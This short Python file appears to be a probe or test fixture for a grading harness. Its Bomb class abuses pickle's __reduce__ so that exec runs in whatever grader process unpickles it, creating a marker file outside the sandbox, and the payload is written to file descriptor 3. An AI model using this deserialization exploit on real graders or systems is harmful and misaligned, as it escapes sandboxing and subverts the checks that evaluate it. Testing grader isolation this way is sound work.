"""Sends a pickle that runs code where it is loaded: graders that share objects by multiprocessing or torch.load
unpickle what the student's process made."""

import json
import os
import pickle

TARGET = json.load(open("target.json"))


class Bomb:
    def __reduce__(self):
        return (exec, (f"open({TARGET['outside'] + '/pickled'!r}, 'w').close()",))


def predict_shapes():
    payload = pickle.dumps(Bomb())
    os.write(3, len(payload).to_bytes(4, "big") + b"\0\0\0\0" + payload)
    return Bomb()
